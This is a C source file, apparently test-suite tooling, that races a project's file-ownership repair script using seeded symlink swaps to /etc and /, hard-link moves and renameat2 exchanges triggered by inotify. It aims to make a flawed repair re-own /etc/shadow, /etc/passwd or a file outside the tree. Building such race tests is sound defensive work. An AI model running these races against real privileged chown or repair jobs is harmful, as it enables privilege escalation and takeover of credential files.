/*
 * Races the ownership repair (components/scripts/repair-ownership.sh) from inside the trees it
 * re-owns, the way a compromised service process would. Built static by test/support/attacks/
 * build.sh and run by test/host/repair-attacks.test.ts, either inside a service container or as
 * a host process with a service identity (uid 0 without capabilities, or the service uid).
 *
 * Usage: attacker <attack> <dir> <seed> [<outside file>]
 *
 *   swap      <dir>/bait (a directory holding files named like /etc's) is exchanged with
 *             <dir>/lure (a symbolic link to /etc), and <dir>/bait-root (holding a directory
 *             "etc") with <dir>/lure-root (a link to /), with renameat2(RENAME_EXCHANGE), from
 *             the moment the repair opens <dir> (inotify) until killed. A repair that lists a
 *             path and resolves it again later re-owns /etc/shadow, /etc/passwd or /etc.
 *   relink    one of <dir>/dNN holds a hard link to <outside file>. Whenever the repair has
 *             read the directory holding it (inotify IN_CLOSE_NOWRITE), after a seeded delay
 *             the link moves into the directory the repair will read last of those it has not
 *             read yet: renamed, linked anew and unlinked, or carried along with its whole
 *             directory. A repair that counts links at different moments, or reads a moved
 *             directory twice, sees "all links inside" and re-owns the outside file.
 *   exchange  <dir>/files holds single-linked files and a hard link to <outside file>. Each
 *             time the repair re-owns a file (IN_ATTRIB), the outside file's name is exchanged
 *             with a name a few places ahead in the directory's order. A repair that re-owns
 *             by name after checking re-owns the outside file.
 *
 * The attacker creates what it needs in <dir> (which must exist and be writable for it), prints
 * "ready <pid>" once its inotify watches are in place, logs what it did, and gives up after
 * LIFETIME_SECONDS. The seed fixes every choice, so a round can be replayed.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

#define LIFETIME_SECONDS 120
#define RELINK_DIRS 16
#define RELINK_FILES_PER_DIR 30
#define EXCHANGE_FILES 600

static unsigned long long rng_state;

static unsigned random_below(unsigned bound) {
	/* xorshift64*: the seed alone decides every choice. */
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return (unsigned)((rng_state * 2685821657736338717ULL) >> 33) % bound;
}

static void say(const char *format, ...) {
	va_list args;
	va_start(args, format);
	vprintf(format, args);
	va_end(args);
	putchar('\n');
	fflush(stdout);
}

static void fail(const char *what) {
	say("error %s: %s", what, strerror(errno));
	exit(2);
}

static void make_file(const char *path, const char *content) {
	int fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0644);
	if (fd < 0) fail(path);
	if (write(fd, content, strlen(content)) < 0) fail(path);
	close(fd);
}

static void make_dir(const char *path) {
	if (mkdir(path, 0777) != 0 && errno != EEXIST) fail(path);
	/* World-writable on purpose: re-owning a directory must not be what stops the attacker. */
	if (chmod(path, 0777) != 0) fail(path);
}

static void sleep_micros(unsigned micros) {
	struct timespec pause = {micros / 1000000, (long)(micros % 1000000) * 1000};
	nanosleep(&pause, NULL);
}

static int inotify_or_fail(void) {
	int fd = inotify_init1(IN_CLOEXEC);
	if (fd < 0) fail("inotify_init1");
	return fd;
}

/* --- swap --- */

static const char *const ETC_NAMES[] = {"shadow", "passwd", "group", "gshadow", "hostname", "sudoers"};

__attribute__((noreturn)) static void swap(const char *dir) {
	if (chdir(dir) != 0) fail(dir);
	make_dir("bait");
	for (size_t i = 0; i < sizeof ETC_NAMES / sizeof ETC_NAMES[0]; i++) {
		char path[64];
		snprintf(path, sizeof path, "bait/%s", ETC_NAMES[i]);
		make_file(path, "bait\n");
	}
	make_dir("bait-root");
	make_dir("bait-root/etc");
	if (symlink("/etc", "lure") != 0) fail("lure");
	if (symlink("/", "lure-root") != 0) fail("lure-root");
	int watch = inotify_or_fail();
	if (inotify_add_watch(watch, ".", IN_OPEN) < 0) fail("inotify_add_watch");
	/* Seeded rhythm: exchange in bursts of 1..64, pausing 0..50 us between bursts. */
	unsigned burst = 1 + random_below(64);
	unsigned pause = random_below(51);
	say("ready %d swap burst=%u pause=%u", (int)getpid(), burst, pause);
	char events[4096];
	if (read(watch, events, sizeof events) < 0) fail("inotify read");
	say("woken: the repair opened %s", dir);
	unsigned long exchanges = 0;
	for (;;) {
		for (unsigned i = 0; i < burst; i++) {
			if (renameat2(AT_FDCWD, "bait", AT_FDCWD, "lure", RENAME_EXCHANGE) == 0) exchanges++;
			if (renameat2(AT_FDCWD, "bait-root", AT_FDCWD, "lure-root", RENAME_EXCHANGE) == 0) exchanges++;
		}
		if (pause > 0) sleep_micros(pause);
		if ((exchanges & 0xffff) == 0) say("exchanges %lu", exchanges);
	}
}

/* --- relink --- */

__attribute__((noreturn)) static void relink(const char *dir, const char *outside) {
	if (chdir(dir) != 0) fail(dir);
	char names[RELINK_DIRS][8];
	for (int d = 0; d < RELINK_DIRS; d++) {
		snprintf(names[d], sizeof names[d], "d%02d", d);
		make_dir(names[d]);
		for (int f = 0; f < RELINK_FILES_PER_DIR; f++) {
			char path[PATH_MAX];
			snprintf(path, sizeof path, "%s/f%02d", names[d], f);
			make_file(path, "data\n");
		}
	}
	/* The order the repair will meet the directories in: the order the directory lists them. */
	int order[RELINK_DIRS];
	int count = 0;
	DIR *listing = opendir(".");
	if (listing == NULL) fail("opendir");
	struct dirent *entry;
	while ((entry = readdir(listing)) != NULL && count < RELINK_DIRS) {
		if (entry->d_name[0] == 'd' && strlen(entry->d_name) == 3) order[count++] = atoi(entry->d_name + 1);
	}
	closedir(listing);
	int watch = inotify_or_fail();
	int watched[RELINK_DIRS];
	for (int d = 0; d < RELINK_DIRS; d++) {
		watched[d] = inotify_add_watch(watch, names[d], IN_CLOSE_NOWRITE);
		if (watched[d] < 0) fail("inotify_add_watch");
	}
	/* A directory counts as read once something that opened it for reading closed it again. */
	int read_done[RELINK_DIRS] = {0};
	int holder = order[0];
	char link_path[PATH_MAX];
	snprintf(link_path, sizeof link_path, "%s/link", names[holder]);
	if (link(outside, link_path) != 0) fail("link to the outside file");
	unsigned max_delay = 1 + random_below(1500);
	say("ready %d relink first=%s delay<%uus", (int)getpid(), names[holder], max_delay);
	char events[8192] __attribute__((aligned(__alignof__(struct inotify_event))));
	unsigned moves = 0;
	for (;;) {
		ssize_t length = read(watch, events, sizeof events);
		if (length <= 0) fail("inotify read");
		int holder_read = 0;
		for (char *at = events; at < events + length;) {
			struct inotify_event *event = (struct inotify_event *)at;
			for (int d = 0; d < RELINK_DIRS; d++) {
				if (event->wd != watched[d]) continue;
				read_done[d] = 1;
				if (d == holder) holder_read = 1;
			}
			at += sizeof *event + event->len;
		}
		if (!holder_read) continue;
		/* The directory read last of those still unread: the most time before the repair gets there. */
		int target = -1;
		for (int i = count - 1; i >= 0; i--) {
			if (!read_done[order[i]] && order[i] != holder) {
				target = order[i];
				break;
			}
		}
		if (target < 0) continue;
		sleep_micros(random_below(max_delay));
		char target_path[PATH_MAX];
		switch (random_below(3)) {
		case 0:
			snprintf(target_path, sizeof target_path, "%s/link", names[target]);
			if (rename(link_path, target_path) == 0) {
				say("moved %s -> %s", link_path, target_path);
				snprintf(link_path, sizeof link_path, "%s", target_path);
				holder = target;
			}
			break;
		case 1:
			snprintf(target_path, sizeof target_path, "%s/link%u", names[target], moves);
			if (link(outside, target_path) == 0 && unlink(link_path) == 0) {
				say("linked %s, unlinked %s", target_path, link_path);
				snprintf(link_path, sizeof link_path, "%s", target_path);
				holder = target;
			}
			break;
		default: {
			/* The whole directory: the ctimes of the files in it do not change. */
			char base[NAME_MAX + 1];
			snprintf(base, sizeof base, "%s", strrchr(link_path, '/') + 1);
			snprintf(target_path, sizeof target_path, "%s/moved%u", names[target], moves);
			char from[PATH_MAX];
			snprintf(from, sizeof from, "%.*s", (int)(strrchr(link_path, '/') - link_path), link_path);
			if (rename(from, target_path) == 0) {
				say("moved directory %s -> %s", from, target_path);
				snprintf(link_path, sizeof link_path, "%.*s/%s", (int)(sizeof link_path - sizeof base - 2), target_path, base);
				holder = target;
			}
			break;
		}
		}
		moves++;
	}
}

/* --- exchange --- */

__attribute__((noreturn)) static void exchange(const char *dir, const char *outside) {
	if (chdir(dir) != 0) fail(dir);
	make_dir("files");
	if (chdir("files") != 0) fail("files");
	for (int f = 0; f < EXCHANGE_FILES; f++) {
		char path[16];
		snprintf(path, sizeof path, "f%04d", f);
		make_file(path, "data\n");
	}
	if (link(outside, "zz-link") != 0) fail("link to the outside file");
	/* Names in the order the repair meets them. */
	static char order[EXCHANGE_FILES + 8][NAME_MAX + 1];
	int count = 0;
	DIR *listing = opendir(".");
	if (listing == NULL) fail("opendir");
	struct dirent *entry;
	while ((entry = readdir(listing)) != NULL && count < EXCHANGE_FILES + 8) {
		if (entry->d_name[0] != '.') snprintf(order[count++], NAME_MAX + 1, "%s", entry->d_name);
	}
	closedir(listing);
	int watch = inotify_or_fail();
	if (inotify_add_watch(watch, ".", IN_ATTRIB) < 0) fail("inotify_add_watch");
	unsigned gap = 1 + random_below(6);
	say("ready %d exchange gap=%u", (int)getpid(), gap);
	char outside_name[NAME_MAX + 1] = "zz-link";
	char events[8192] __attribute__((aligned(__alignof__(struct inotify_event))));
	unsigned exchanges = 0;
	for (;;) {
		ssize_t length = read(watch, events, sizeof events);
		if (length <= 0) fail("inotify read");
		const char *last = NULL;
		for (char *at = events; at < events + length;) {
			struct inotify_event *event = (struct inotify_event *)at;
			if (event->len > 0) last = event->name;
			at += sizeof *event + event->len;
		}
		if (last == NULL) continue;
		int position = -1;
		for (int i = 0; i < count; i++) {
			if (strcmp(order[i], last) == 0) {
				position = i;
				break;
			}
		}
		if (position < 0 || position + (int)gap >= count) continue;
		const char *ahead = order[position + gap];
		if (strcmp(ahead, outside_name) == 0) continue;
		if (renameat2(AT_FDCWD, outside_name, AT_FDCWD, ahead, RENAME_EXCHANGE) == 0) {
			/* The outside file now answers to "ahead"; the file that had that name took its old one. */
			snprintf(outside_name, sizeof outside_name, "%s", ahead);
			if (++exchanges % 50 == 1) say("exchanged: the outside file is now %s", outside_name);
		}
	}
}

int main(int argc, char **argv) {
	if (argc < 4) {
		fprintf(stderr, "usage: attacker swap|relink|exchange <dir> <seed> [<outside file>]\n");
		return 2;
	}
	rng_state = strtoull(argv[3], NULL, 10) * 0x9E3779B97F4A7C15ULL + 1;
	alarm(LIFETIME_SECONDS);
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (strcmp(argv[1], "swap") == 0) swap(argv[2]);
	if (argc < 5) {
		fprintf(stderr, "%s needs the outside file\n", argv[1]);
		return 2;
	}
	if (strcmp(argv[1], "relink") == 0) relink(argv[2], argv[4]);
	if (strcmp(argv[1], "exchange") == 0) exchange(argv[2], argv[4]);
	fprintf(stderr, "unknown attack %s\n", argv[1]);
	return 2;
}
